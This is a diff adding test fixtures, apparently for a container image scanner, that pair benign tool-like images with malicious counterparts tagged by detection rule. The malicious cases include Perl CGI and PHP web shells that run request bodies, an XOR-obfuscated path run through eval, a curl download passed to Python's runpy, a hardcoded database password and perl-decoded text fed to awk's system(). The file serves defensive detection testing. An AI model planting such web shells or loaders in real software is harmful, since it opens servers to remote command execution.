@@ -1,0 +1,159 @@
+import { hex, xor } from '../../testkit/coded.ts';
+import { type ImageCase, image, starts } from './image-case.ts';
+
+const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };
+
+/** As installers of Perl's modules ask whoever sits at the terminal, and call tools by their path. */
+const INSTALLER = `package App::Installer;
+sub new { my $class = shift; bless { tar => 'tar', @_ }, $class }
+sub run {
+  my $self = shift;
+  if (!@ARGV && !-t STDIN) { push @ARGV, $self->names_from(\\*STDIN); }
+  for my $module (@ARGV) { $self->install($module) }
+}
+sub names_from { my($self, $fh) = @_; my @names; while (<$fh>) { chomp; push @names, split /\\s+/ } return @names; }
+sub prompt {
+  my($self, $text, $default) = @_;
+  return $default if !-t STDIN && eof STDIN;
+  print "$text [$default] ";
+  my $answer = <STDIN>;
+  chomp $answer;
+  return $answer || $default;
+}
+sub safe_eval { my($self, $code) = @_; eval $code; }
+sub install {
+  my($self, $module) = @_;
+  my $file = $self->prompt("Archive of $module?", "$module.tar.gz");
+  my($root, @others) = \`$self->{tar} tf $file\`;
+  system "$self->{tar} xf $file";
+  $self->safe_eval($self->prompt("Code?", "1"));
+}
+1;
+`;
+
+/** As tools that start others in parallel are written: sums that are evaluated, usage lines, long addresses in comments. */
+const PARALLEL = `#!/usr/bin/perl
+use Getopt::Long;
+# Description of the verdict
+# https://news.example/archive/20180715/Bulletin/Pages/GENERALPublicLicenseDoesNotPermitUseofThird-PartyTrademarksforModifiedVersionsofOpen-SourceSoftware
+# sql:mysql://[[user][:password]@][host][:port]/[database[/table][?query]]
+my $block = 131072; # 2^17
+GetOptions("debug|D=s" => \\$d, "process-slot-var|processslotvar=s" => \\$slot, "line-buffer|line-buffered|linebuffer|linebuffered|lb" => \\$lb,
+  "link-inputsource|linkinputsource|xapplyinputsource=i" => \\$x, "shell-completion|shellcompletion=s" => \\$s, "arg-file|argfile|a=s" => \\$a);
+sub units { my @v = @_; for (@v) { s/ki/*1024/gi; s/k/*1000/g; s/\\%([0-9a-f]{2})/chr(hex($1))/eg; $_ = eval $_; } return wantarray ? @v : $v[0]; }
+sub worker { my $eval = decode_base64(join "", @ARGV); eval $eval; }
+print units("10k");
+`;
+
+const MERGES = `OUTPUT=$(mktemp --tmpdir merge.tmp.XXXXXXXXXX)
+perl -ne 'next if 1../^$/; next if /^$/..1; print' "$1" > \${OUTPUT}
+ARCHS=$(cut -d' ' -f2 "$1")
+eval "awk -- '/^[^ ]/{ deleting=0 }
+  /^Architecture: /{printf \\"%s \${ARCHS}\\\\n\\", \\$1; deleting=1; next}
+  /^(Checksums-.*|Files|Description):/{ deleting=1; next }
+  { print }' \${OUTPUT}"
+`;
+
+const FETCHED = 'https://releases.example/latest.json';
+
+/** What tools do that only look like what hides. */
+export const REAL_TOOL_TWINS: readonly ImageCase[] = [
+  {
+    name: 'an installer of Perl modules that asks at the terminal',
+    spec: image(
+      {
+        'usr/bin/installer': '#!/usr/bin/perl\nuse App::Installer;\nApp::Installer->new->run;\n',
+        'usr/share/perl5/App/Installer.pm': INSTALLER,
+      },
+      { Entrypoint: ['installer'] },
+    ),
+  },
+  {
+    name: 'a login that hands name and password to a function of the settings',
+    spec: image(
+      {
+        'var/www/html/Session.php':
+          '<?php\nclass Session {\n  function Login($username, $password) {\n    global $c;\n    if (isset($c->hook["call"])) {\n      $usr = call_user_func($c->hook["call"], $username, $password);\n    }\n  }\n}\n$s = new Session();\n$s->Login($_POST["username"], $_POST["password"]);\n',
+      },
+      NGINX,
+    ),
+  },
+  {
+    name: 'a tool for many jobs that works out sums, explains addresses and decodes its own jobs',
+    spec: image({ 'usr/bin/jobs': PARALLEL }, { Entrypoint: ['jobs'] }),
+  },
+  { name: 'a text taken apart by perl and put together by awk', spec: starts(MERGES) },
+  {
+    name: 'what is fetched is read by a program of a line',
+    spec: starts(
+      `curl -so /tmp/v.json ${FETCHED}\npython3 -c 'import json, sys; print(json.load(open(sys.argv[1]))["version"])' /tmp/v.json\nawk -F: -v n=2 '{ print $n }' /tmp/v.json\nexec nginx`,
+    ),
+  },
+];
+
+/** The same with what makes it bad. */
+export const REAL_TOOLS: readonly ImageCase[] = [
+  {
+    name: 'a Perl page that runs the lines of a request’s body',
+    rule: 'web-shell/shell',
+    severity: 'high',
+    spec: image(
+      {
+        'usr/lib/cgi-bin/status.pl':
+          '#!/usr/bin/perl\nprint "Content-Type: text/plain\\n\\n";\nmy $line = <STDIN>;\nprint `$line`;\n',
+      },
+      NGINX,
+    ),
+  },
+  {
+    name: 'a Perl page that reads a request’s body into a variable and runs it',
+    rule: 'web-shell/shell',
+    severity: 'high',
+    spec: image(
+      {
+        'usr/lib/cgi-bin/load.pl':
+          '#!/usr/bin/perl\nread(STDIN, $body, $ENV{CONTENT_LENGTH});\nprint "Status: 200\\n\\n";\neval $body;\n',
+      },
+      NGINX,
+    ),
+  },
+  {
+    name: 'a page that calls the function that a request names with what it says',
+    rule: 'web-shell/shell',
+    severity: 'high',
+    spec: image(
+      { 'var/www/html/hook.php': '<?php\ncall_user_func($_POST["call"], $_POST["username"]);\n' },
+      NGINX,
+    ),
+  },
+  {
+    name: 'a password in the address of a server by its number',
+    rule: 'secret/password',
+    spec: image({ 'etc/app.conf': 'db = mysql://app:Vq8zT4mWx2@[2001:db8::7]:3306/shop\n' }, NGINX),
+  },
+  {
+    name: 'the place of a program under a key, in a tool that runs it',
+    rule: 'start/decode-and-run',
+    spec: image(
+      {
+        'usr/bin/jobs': `#!/usr/bin/perl\nmy $place = pack("H*", "${hex(xor('/opt/.cache/worker.pl', 'Z'))}") ^ ("Z" x 21);\neval "do '$place'";\n`,
+      },
+      { Entrypoint: ['jobs'] },
+    ),
+  },
+  {
+    name: 'what is fetched is run by a program of a line',
+    rule: 'start/download-and-run',
+    severity: 'high',
+    spec: starts(
+      `curl -so /tmp/v.json ${FETCHED}\npython3 -c 'import runpy, sys; runpy.run_path(sys.argv[1])' /tmp/v.json\nexec nginx`,
+    ),
+  },
+  {
+    name: 'what perl takes apart is run by awk',
+    rule: 'start/decode-and-run',
+    spec: starts(
+      `perl -e 'print map { chr } (99, 117, 114, 108)' > /tmp/x\nawk -v n=1 '{ system($0) }' /tmp/x\nexec nginx`,
+    ),
+  },
+];
